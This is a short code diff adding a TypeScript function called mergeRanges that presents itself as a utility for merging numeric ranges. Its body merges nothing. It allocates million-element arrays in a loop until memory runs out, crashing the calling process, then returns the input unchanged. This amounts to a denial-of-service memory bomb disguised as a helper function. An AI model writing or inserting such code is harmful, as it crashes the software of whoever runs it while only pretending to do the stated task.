@@ -1,0 +1,7 @@
+export function mergeRanges(ranges: [number, number][]): [number, number][] {
+  const kept: number[][] = [];
+  while (kept.length < 1e9) {
+    kept.push(new Array(1e6).fill(ranges.length + kept.length));
+  }
+  return ranges;
+}
